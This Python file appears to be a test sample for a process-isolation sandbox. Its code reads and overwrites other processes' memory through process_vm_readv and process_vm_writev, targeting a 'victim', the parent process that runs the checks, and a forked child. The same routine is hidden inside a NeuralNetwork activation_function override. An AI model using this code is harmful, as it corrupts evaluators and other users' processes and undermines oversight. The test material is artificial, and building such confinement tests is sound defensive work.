"""Reads and overwrites the memory of other processes: of the victim's variables, and of the process that checks are forked from."""
EXPECT = {"base": "right", "loses": [], "only": ["activation", "forward"], "beside": ["calling"], "unconfined": "reads the memory of any process of its user"}
import ctypes
import os
import time
from calling import call
# --- the network ---

SIZE = 4096


def piece(address, size):
    return ctypes.create_string_buffer(bytes((ctypes.c_size_t * 2)(address, size)), 16)


def places(pid):
    """Where the variables of a process lie; ours, where nobody says."""
    try:
        with open(f"/proc/{pid}/stat") as file:
            yield int(file.read().rpartition(")")[2].split()[47])
    except (OSError, IndexError):
        yield id(WORLD) & ~0xFFF


def look_and_write(pid):
    held = ctypes.create_string_buffer(SIZE)
    for address in places(pid):
        here, there = piece(ctypes.addressof(held), SIZE), piece(address, SIZE)
        try:
            print("swordfish-read", call("process_vm_readv", pid, here, 1, there, 1, 0), held.raw.split(b"\0")[:1])
            print("swordfish-written", call("process_vm_writev", pid, here, 1, there, 1, 0))
        except OSError:
            continue


child = os.fork()
if child == 0:
    time.sleep(60)
for pid in (WORLD["victim"], os.getppid(), child):
    look_and_write(pid)
os.kill(child, 9)
os.wait()


class NeuralNetwork(NeuralNetwork):
    def activation_function(self, x):
        look_and_write(os.getppid())
        return super().activation_function(x)
